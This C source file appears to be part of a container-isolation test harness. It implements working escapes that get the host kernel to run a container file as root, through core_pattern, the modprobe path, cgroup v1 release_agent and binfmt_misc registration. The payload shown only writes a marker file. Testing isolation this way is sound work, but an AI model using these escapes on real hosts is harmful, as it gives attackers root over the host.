/*
 * The kernel runs a program for the container, outside of it, as root. Argument: core, modprobe, binfmt,
 * release_agent, release_option, release_remount.
 * The program is a file of the container's own root. Must be seen: a record of the container with its
 * digest, or that it set what the kernel runs.
 */
#include <sys/resource.h>
#include <sys/socket.h>

#include "attack.h"

/* Where the host finds a file of this root: the upper directory of the overlay that / is. */
static void host_path(char *path, size_t size)
{
	char line[4096], *upper;
	FILE *mounts = fopen("/proc/self/mounts", "r");

	while (fgets(line, sizeof(line), mounts))
		if (strstr(line, " / overlay ") && (upper = strstr(line, "upperdir="))) {
			upper += strlen("upperdir=");
			upper[strcspn(upper, ", ")] = 0;
			snprintf(path, size, "%s", upper);
			break;
		}
	fclose(mounts);
}

/* A hierarchy of control groups without a controller, which any kernel with version 1 has. */
static void release(char **argv, const char *helper)
{
	char text[64], option[4300];

	snprintf(text, sizeof(text), "none,name=%s", argv[0]);
	snprintf(option, sizeof(option), "%s,release_agent=%s", text, helper);
	if (mount("none", "/mnt", "cgroup", 0, is_mode(argv, "release_option") ? option : text) < 0) {
		if (errno == ENODEV)
			absent("control groups of version 1");
		must(-1, "mount cgroup");
	}
	if (is_mode(argv, "release_agent"))
		write_text("/mnt/release_agent", helper);
	if (is_mode(argv, "release_remount"))
		must(mount("none", "/mnt", "cgroup", MS_REMOUNT, option), "remount cgroup");
	must(mkdir("/mnt/group", 0755), "mkdir");
	write_text("/mnt/group/notify_on_release", "1");
	if (!must(fork(), "fork")) {
		write_text("/mnt/group/tasks", "0");
		_exit(0);
	}
	wait(0);
	sleep(1);
	rmdir("/mnt/group");
}

ATTACK(run_by_kernel)
{
	char upper[2048] = "", text[4096];
	struct rlimit unlimited = {RLIM_INFINITY, RLIM_INFINITY};

	host_path(upper, sizeof(upper));
	write_file("/tmp/helper", evil_script, evil_script_end - evil_script, 0755);
	snprintf(text, sizeof(text), "#!/bin/sh\necho >%s/tmp/helper-ran\n", upper);
	write_file("/tmp/helper", text, strlen(text), 0755);
	truth("/tmp/helper");
	if (is_mode(argv, "core")) {
		snprintf(text, sizeof(text), "|%s/tmp/helper", upper);
		write_text("/proc/sys/kernel/core_pattern", text);
		setrlimit(RLIMIT_CORE, &unlimited);
		if (!must(fork(), "fork"))
			abort();
		wait(0);
		sleep(1);
		write_text("/proc/sys/kernel/core_pattern", "core");
	} else if (is_mode(argv, "modprobe")) {
		snprintf(text, sizeof(text), "%s/tmp/helper", upper);
		write_text("/proc/sys/kernel/modprobe", text);
		/* A family of sockets that nobody has loaded. */
		socket(21, SOCK_STREAM, 0);
		sleep(1);
		write_text("/proc/sys/kernel/modprobe", "/sbin/modprobe");
	} else if (!is_mode(argv, "binfmt")) {
		snprintf(text, sizeof(text), "%s/tmp/helper", upper);
		release(argv, text);
	} else {
		must(mount("none", "/mnt", "binfmt_misc", 0, 0), "mount binfmt_misc");
		write_file("/tmp/interpreter", evil_program, evil_program_end - evil_program, 0755);
		truth("/tmp/interpreter");
		write_text("/mnt/register", ":attack:M::EVIL::/tmp/interpreter:F");
		write_file("/tmp/thing", "EVIL", 4, 0755);
		execute("/tmp/thing");
		write_text("/mnt/attack", "-1");
	}
	if (access("/tmp/helper-ran", F_OK) == 0)
		printf("ran: evil\n");
	return 0;
}
